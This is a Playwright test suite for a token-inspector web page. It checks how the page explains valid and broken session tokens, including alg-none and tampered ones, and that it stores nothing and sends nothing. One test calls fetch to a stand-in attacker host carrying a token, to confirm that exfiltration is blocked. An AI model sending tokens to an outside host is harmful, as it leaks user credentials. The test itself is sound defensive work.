import type { Page } from '@playwright/test';
import { createTokenIssuer, tamperToken } from '@session-token/token-issuer';
import { ENDPOINTS } from '../src/contract/endpoints.ts';
import { hiddenWidth, violationsInBothSchemes } from './look-at-page.ts';
import { expect, test } from './sandbox-page.ts';

const CLIENT_ID = '0b5ec9a3c2e14a6f8d7092f4b1e6a35c';
const SECRET = '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';
const OTHER_SECRET = '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';
const mint = createTokenIssuer({ clientId: CLIENT_ID, secret: SECRET });
const CUSTOMER = { sub: 'gid://shopify/Customer/7000000000001' };

/** The inspector's page. */
class Inspector {
  readonly page: Page;

  constructor(page: Page) {
    this.page = page;
  }

  async open(query = ''): Promise<void> {
    await this.page.goto(`${ENDPOINTS.inspector}${query}`);
    await expect(this.verdict).toHaveAttribute('data-verdict', 'empty');
  }

  async paste(text: string): Promise<void> {
    await this.page.getByLabel(/^A token/).fill(text);
  }

  async giveApp(clientId: string, secret: string): Promise<void> {
    await this.page.getByLabel('Client id').fill(clientId);
    await this.page.getByLabel('Client secret').fill(secret);
  }

  get verdict() {
    return this.page.getByRole('region', { name: 'Verdict' });
  }

  check(id: string) {
    return this.page.locator(`[data-check="${id}"]`);
  }
}

const everythingStored = (page: Page) =>
  page.evaluate(async () => [
    { ...localStorage },
    { ...sessionStorage },
    document.cookie,
    history.state,
    history.length,
    await indexedDB.databases(),
    await caches.keys(),
  ]);

test('explains tokens of each kind and broken ones, and sends and stores nothing', async ({ page }) => {
  const inspector = new Inspector(page);
  await inspector.open();
  const address = page.url();
  const storedBefore = await everythingStored(page);
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));

  await inspector.paste(mint());
  await expect(inspector.verdict).toContainText('No fault found so far');
  await expect(inspector.check('signature')).toHaveAttribute('data-status', 'not checked');
  await inspector.giveApp(CLIENT_ID, SECRET);
  await expect(inspector.verdict).toContainText('a guest');

  for (const [token, holder] of [
    [mint(CUSTOMER), 'a customer of sandbox.myshopify.com'],
    [mint(CUSTOMER, { surface: 'customer-account' }), 'a customer of sandbox.myshopify.com'],
    [mint({}, { surface: 'pos' }), 'a staff member of sandbox.myshopify.com'],
    [`Authorization: Bearer ${mint()}\n`, 'a guest'],
  ] as const) {
    await inspector.paste(token);
    await expect(inspector.verdict).toContainText(holder);
    await expect(inspector.verdict).toHaveAttribute('data-verdict', 'accepted');
  }

  const issued = Math.floor(Date.now() / 1000);
  for (const [token, code, check] of [
    ['Bearer undefined', 'malformed_token', 'form'],
    [mint().split('.').slice(0, 2).join('.'), 'malformed_token', 'form'],
    [`"${mint()}"`, 'malformed_token', 'form'],
    ['x'.repeat(4097), 'token_too_large', 'size'],
    [mint({}, { header: { alg: 'none' } }), 'unsupported_algorithm', 'header'],
    [tamperToken(mint(), CUSTOMER), 'bad_signature', 'signature'],
    [mint({}, { secret: OTHER_SECRET }), 'bad_signature', 'signature'],
    [mint({ aud: 'another-app' }), 'wrong_audience', 'audience'],
    [mint({ iat: issued - 400, nbf: issued - 400, exp: issued - 100 }), 'expired', 'validity'],
    [mint({ jti: undefined }), 'missing_claim', 'claims'],
    [mint({ dest: 'shop.example', iss: undefined }), 'bad_dest', 'shop'],
    [mint({ sub: '7' }), 'bad_subject', 'subject'],
  ] as const) {
    await inspector.paste(token);
    await expect(inspector.verdict).toContainText(code);
    await expect(inspector.check(check)).toHaveAttribute('data-status', 'failed');
  }

  expect(requests).toEqual([]);
  expect(page.url()).toBe(address);
  expect(await everythingStored(page)).toEqual(storedBefore);
});

test('may connect to nothing', async ({ page }) => {
  const inspector = new Inspector(page);
  await inspector.open();
  // A request that the policy blocks begins, but never finishes.
  const sent: string[] = [];
  page.on('requestfinished', (request) => sent.push(request.url()));
  const refused = await page.evaluate(async () => {
    const attempts = [
      () => fetch('/?token'),
      () => fetch('https://attacker.example/?token'),
      () =>
        new Promise((resolve, reject) => {
          Object.assign(new Image(), { src: '/?token', onload: resolve, onerror: reject });
        }),
      () =>
        new Promise((resolve, reject) => {
          Object.assign(new WebSocket('ws://127.0.0.1:1/?token'), { onopen: resolve, onerror: reject });
        }),
    ];
    navigator.sendBeacon('/?token'); // returns true, whether the policy allows it or not
    const results = await Promise.allSettled(attempts.map(async (attempt) => attempt()));
    return results.map(({ status }) => status);
  });
  expect(refused).toEqual(refused.map(() => 'rejected'));
  expect(sent).toEqual([]);
});

test('shows the claims, what is wrong with them, and a specimen without any values', async ({ page }) => {
  const inspector = new Inspector(page);
  await inspector.open();
  await inspector.giveApp(CLIENT_ID, SECRET);
  await inspector.paste(mint({ aud: 'another-app', jti: 'canary', locale: 'nb' }));
  const claims = page.getByRole('region', { name: 'Claims' });
  await expect(claims.locator('.claim').first()).toContainText(`expected "${CLIENT_ID}"`);
  await expect(claims).toContainText('locale');
  const specimen = page.getByRole('region', { name: 'Specimen for an issue' });
  await expect(specimen).toContainText('not seen before: aud text, jti text, unknown text');
  await expect(specimen).not.toContainText(/canary|another-app|sandbox/);
  await expect(page.getByRole('link', { name: /Causes and fixes/ })).toHaveAttribute(
    'href',
    `${ENDPOINTS.troubleshooting}#wrong_audience`,
  );

  await page.getByRole('button', { name: 'Clear' }).click();
  await expect(inspector.verdict).toHaveAttribute('data-verdict', 'empty');
  await page.getByRole('button', { name: 'Try an example' }).click();
  await expect(inspector.verdict).toContainText('bad_signature');
});

test('opens from the sandbox, in its theme', async ({ sandbox, page }) => {
  await sandbox.open('?theme=dark');
  const opened = page.waitForEvent('popup');
  await page.getByRole('link', { name: 'Inspect a token' }).click();
  const inspector = new Inspector(await opened);
  await expect(inspector.verdict).toHaveAttribute('data-verdict', 'empty');
  expect(await inspector.page.evaluate(() => getComputedStyle(document.documentElement).colorScheme)).toBe(
    'dark',
  );
  await inspector.page.close();
});

test('passes axe in light and dark, and fits a phone', async ({ page }) => {
  const inspector = new Inspector(page);
  await inspector.open();
  await inspector.giveApp(CLIENT_ID, SECRET);
  await inspector.paste(mint({ aud: 'another-app', [`long_${'x'.repeat(60)}`]: 'x'.repeat(300) }));
  await expect(inspector.verdict).toContainText('wrong_audience');
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: 844 });
    expect(await violationsInBothSchemes(page)).toEqual([]);
    expect(await hiddenWidth(page), `${width} pixels`).toBe(0);
  }
});
